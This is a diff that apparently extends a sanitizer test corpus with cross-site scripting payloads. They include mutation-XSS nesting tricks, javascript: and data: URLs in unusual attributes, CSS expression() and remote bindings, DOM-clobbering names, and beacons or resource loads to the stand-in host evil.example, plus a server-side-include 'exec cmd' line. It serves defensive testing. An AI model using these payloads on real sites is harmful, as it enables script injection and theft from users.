@@ -33,6 +33,18 @@ TEXTS = [
     f"<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={RUN}>\">", f"<template><script>{RUN}</script></template>",
     f"<p id=\"`><img src=x onerror={RUN}>\">x</p>", f"<![CDATA[<img src=x onerror={RUN}>]]>", f"<!--><img src=x onerror={RUN}>-->", f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
     f"<?xml version=\"1.0\"?><img src=x onerror={RUN}>",
+    f"<svg><style>&lt;/style&gt;&lt;img src=x onerror={RUN}&gt;</style></svg>", f"<math><annotation-xml encoding=\"text/html\"><style><img title=\"</style><img src=x onerror={RUN}>\">",
+    f"<svg><desc><template><title></svg><img src=x onerror={RUN}></title></template></desc>", f"<p><table><p><svg><mtext><style></p><img src=x onerror={RUN}></style>",
+    f"<div><p title='&lt;/p&gt;&lt;img src=x onerror={RUN}&gt;'><table><svg><foreignObject><p></div><style><!--</style><img title=\"--><img src=x onerror={RUN}>\">",
+    # addresses in other attributes than href and src
+    f"<img srcset='javascript:{RUN} 1x, data:text/html,<script>{RUN}</script> 2x' sizes=100vw>", f"<picture><source srcset='https://evil.example/x 2x'><img src=x></picture>",
+    "<link rel=preload as=image imagesrcset='https://evil.example/x 1x'>", f"<a href=# ping='https://evil.example/p'>x</a>", f"<button formaction='javascript:{RUN}'>x</button>",
+    f"<input type=image src=x onerror={RUN}>", "<video poster='https://evil.example/p'></video>", "<table background='https://evil.example/b'><tr><td>x</table>", f"<area href='javascript:{RUN}'>",
+    f"<svg><use xlink:href='https://evil.example/s.svg#x'/></svg>", f"<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSd3aW5kb3cuaG9zdGlsZT0xJy8+#x\"/></svg>", f"<svg><image href='javascript:{RUN}'/><feImage xlink:href='https://evil.example/f'/></svg>",
+    # styles in attributes
+    f"<p style=\"width:expression({RUN});-moz-binding:url(//evil.example/x.xml#x)\">x</p>", "<p style=\"background:\\75\\72\\6c('https://evil.example/b')\">x</p>", "<font style='position:fixed;inset:0;z-index:9'>x</font>",
+    # names that scripts of the page would find in their place
+    "<form id=search name=stepdexSite><input name=find></form>", "<a id=stepdexSite name=meta href='data:,x'>x</a>", "<img name=documentElement>",
     # ways out of attributes, scripts, JSON, templates and search shards
     f"\" onmouseover=\"{RUN}", f"' onfocus='{RUN}' autofocus x='", f"`-{RUN}-`", f"</script><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</textarea></pre></code><script>{RUN}</script>",
     f"\"}}]}}</script><script>{RUN}</script>", f"\\\"]);{RUN};//", f"\u2028{RUN}\u2029", f"${{{RUN}}}", f"{{{{{{{RUN}}}}}}}", f"{{{{#head}}}}{RUN}{{{{/head}}}}", f"]({RUN})![x](javascript:{RUN})", "--><!--#exec cmd=\"id\"-->",
